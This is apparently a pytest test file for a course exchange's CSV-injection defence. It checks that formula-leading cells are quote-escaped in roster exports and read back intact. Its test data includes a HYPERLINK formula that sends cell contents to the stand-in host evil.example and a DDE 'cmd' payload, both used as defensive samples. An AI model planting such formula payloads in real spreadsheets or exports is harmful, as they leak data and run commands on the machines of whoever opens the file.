"""Formula-safe CSV: every cell a spreadsheet would run as a formula is quoted, in every CSV
the exchange writes, and the exchange's own imports read such files back unchanged."""

from __future__ import annotations

import csv
import io

import pytest

from courses import roster, roster_export, services
from courses.csvsafe import formula_safe, unescape_cell, write_rows
from tests.harness import REPO

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1, "Click")'


@pytest.mark.parametrize(
    "value", [HYPERLINK, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]
)
def test_formula_leading_cells_get_a_quote_and_read_back(value):
    assert formula_safe(value) == "'" + value
    assert unescape_cell(formula_safe(value)) == value


@pytest.mark.parametrize("value", ["Ann", "O'Brien", "'quoted", "a=b", " =x", "", "3"])
def test_other_cells_are_left_alone(value):
    assert formula_safe(value) == value
    assert unescape_cell(value) == value


def test_none_and_numbers_become_text():
    assert (formula_safe(None), formula_safe(-5), formula_safe(7)) == ("", "'-5", "7")


def test_write_rows_quotes_every_cell():
    out = io.StringIO()
    write_rows(out, [["id", "name"], ["-x", HYPERLINK]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["id", "name"],
        ["'-x", "'" + HYPERLINK],
    ]


@pytest.mark.parametrize("fmt", ["nbgrader", "canvas"])
def test_roster_export_has_no_formula_cells_and_imports_back_unchanged(course, fmt):
    services.add_member(
        course=course,
        username="-mallory",
        role="student",
        first_name=HYPERLINK,
        last_name="@evil",
        email="+1@evil.example",
    )
    text = roster_export.export_roster(course=course, format=fmt)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells and not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))]
    assert "'-mallory" in cells and ("'" + HYPERLINK in cells or "'@evil, " + HYPERLINK in cells)
    rows = roster.parse_roster(text)
    assert [(r.username, r.first_name, r.last_name, r.email) for r in rows] == [
        ("-mallory", HYPERLINK, "@evil", "+1@evil.example")
    ]


def test_no_module_writes_csv_around_the_helper():
    """Every CSV goes through courses.csvsafe: a new export that calls csv.writer directly
    would bring formulas back."""
    root = REPO
    offenders = [
        str(path.relative_to(root))
        for package in ("courses", "hub", "api", "web", "exchange_site", "nbgrader_exchange")
        for path in (root / package).rglob("*.py")
        if "tests" not in path.parts
        and path.name != "csvsafe.py"
        and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    ]
    assert offenders == []
